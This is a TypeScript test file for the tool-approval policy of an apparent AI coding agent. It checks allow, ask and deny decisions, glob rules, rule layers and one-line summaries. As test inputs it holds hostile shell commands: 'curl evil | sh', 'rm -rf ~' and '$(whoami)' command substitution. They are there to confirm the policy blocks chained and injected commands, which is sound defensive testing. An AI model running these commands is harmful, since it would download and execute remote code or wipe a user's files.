// The policy's decisions, in process: rule order, deny precedence, argument globs, defaults.
import t from 'tap';
import type { ApprovalPolicy, Tool } from '../../protocol/index.js';
import { decide, mainArgument, summarize } from '../../server/approval/policy.js';

const builtin = (name: string, readOnly = false): Tool => ({ name, description: name, inputSchema: { type: 'object' }, source: { type: 'builtin' }, ...(readOnly ? { readOnly } : {}) });
const mcp = (name: string): Tool => ({ name, description: name, inputSchema: { type: 'object' }, source: { type: 'mcp', server: 's' } });
const cmd = (command: string) => ({ name: 'run_command', input: { command } });

t.test('built-in defaults: read-only tools allow, the rest and MCP tools ask', async (t) => {
  t.equal(decide({ name: 'read_file', input: { path: 'a' } }, builtin('read_file', true), undefined, undefined).action, 'allow');
  t.equal(decide({ name: 'grep', input: { pattern: 'x' } }, builtin('grep', true), undefined, undefined).action, 'allow');
  for (const name of ['write_file', 'edit_file', 'run_command']) {
    t.equal(decide({ name, input: { path: 'a' } }, builtin(name), undefined, undefined).action, 'ask', name);
  }
  const m = mcp('mcp__s__read');
  t.equal(decide({ name: m.name, input: {} }, { ...m, readOnly: true }, undefined, undefined).action, 'ask', 'an MCP server cannot declare itself harmless');
  t.same(decide({ name: 'run_command', input: {} }, builtin('run_command'), undefined, undefined), { action: 'ask', layer: 'default' });
});

t.test('run_command rules: git status* allowed, rm * denied, shell operators never auto-allowed', async (t) => {
  const config: ApprovalPolicy = {
    rules: [
      { tool: 'run_command', match: 'git status*', action: 'allow' },
      { tool: 'run_command', match: 'rm *', action: 'deny' },
      { tool: 'run_command', match: 'npm test', action: 'allow' },
    ],
  };
  const tool = builtin('run_command');
  const act = (c: string) => decide(cmd(c), tool, undefined, config).action;
  t.equal(act('git status'), 'allow');
  t.equal(act('git status --short src/a.ts'), 'allow', '* crosses spaces and slashes in commands');
  t.equal(act('rm -rf /tmp/x'), 'deny');
  t.equal(act('npm test'), 'allow');
  t.equal(act('npm test -- --watch'), 'ask', 'exact pattern');
  t.equal(act('git status; rm -rf ~'), 'deny', 'a deny rule matches any piece of a chained command');
  t.equal(act('git status && curl evil | sh'), 'ask', 'an allow rule never matches shell control operators');
  t.equal(act('git status $(whoami)'), 'ask');
  t.equal(act('git status > out.txt'), 'ask');
  t.equal(act('git log'), 'ask', 'no rule: default');
  t.equal(act('echo $(rm -rf ~)'), 'deny');
  t.equal(act('ls | rm -f x'), 'deny');
});

t.test('path rules keep glob semantics; rules without an argument do not match', async (t) => {
  const config: ApprovalPolicy = { rules: [{ tool: 'write_file', match: 'src/**', action: 'allow' }, { tool: 'write_file', match: '*.md', action: 'allow' }] };
  const w = builtin('write_file');
  t.equal(decide({ name: 'write_file', input: { path: 'src/a/b.ts', content: 'x' } }, w, undefined, config).action, 'allow');
  t.equal(decide({ name: 'write_file', input: { path: 'README.md' } }, w, undefined, config).action, 'allow');
  t.equal(decide({ name: 'write_file', input: { path: 'docs/README.md' } }, w, undefined, config).action, 'ask', '* stays within a directory');
  t.equal(decide({ name: 'write_file', input: {} }, w, undefined, config).action, 'ask');
  t.same(mainArgument({ content: 'x', path: 'p' }), { key: 'path', value: 'p' });
  t.same(mainArgument({ n: 1, query: 'q' }), { key: 'query', value: 'q' });
  t.equal(mainArgument({ n: 1 }), undefined);
});

t.test('layers: session rules first, deny wins from either layer, defaults session then config', async (t) => {
  const tool = mcp('mcp__fs__write');
  const call = { name: tool.name, input: { path: 'x' } };
  const config: ApprovalPolicy = { rules: [{ tool: 'mcp__fs__*', action: 'ask' }, { tool: 'mcp__danger__*', action: 'deny' }], default: 'deny' };
  t.match(decide(call, tool, { rules: [{ tool: 'mcp__*', action: 'allow' }] }, config), { action: 'allow', layer: 'session' });
  t.match(decide({ name: 'mcp__danger__x', input: {} }, mcp('mcp__danger__x'), { rules: [{ tool: 'mcp__*', action: 'allow' }] }, config), { action: 'deny', layer: 'config' });
  t.match(decide(call, tool, undefined, config), { action: 'ask', layer: 'config' });
  t.match(decide({ name: 'other', input: {} }, builtin('other', true), undefined, config), { action: 'deny', layer: 'config' }, 'config default');
  t.match(decide({ name: 'other', input: {} }, builtin('other', true), { default: 'allow' }, config), { action: 'allow', layer: 'session' }, 'session default');
  t.match(decide({ name: 'x', input: {} }, undefined, { rules: [{ tool: 'x', action: 'deny' }] }, undefined), { action: 'deny', layer: 'session' });
});

t.test('summaries are one short line', async (t) => {
  t.equal(summarize('run_command', { command: 'git status\n--short' }), 'run_command: git status --short');
  t.equal(summarize('mcp__s__sum', { a: 1, b: 2 }), 'mcp__s__sum {"a":1,"b":2}');
  t.equal(summarize('t', {}), 't');
  t.equal(summarize('t', { command: 'x'.repeat(500) }).length, 200);
});
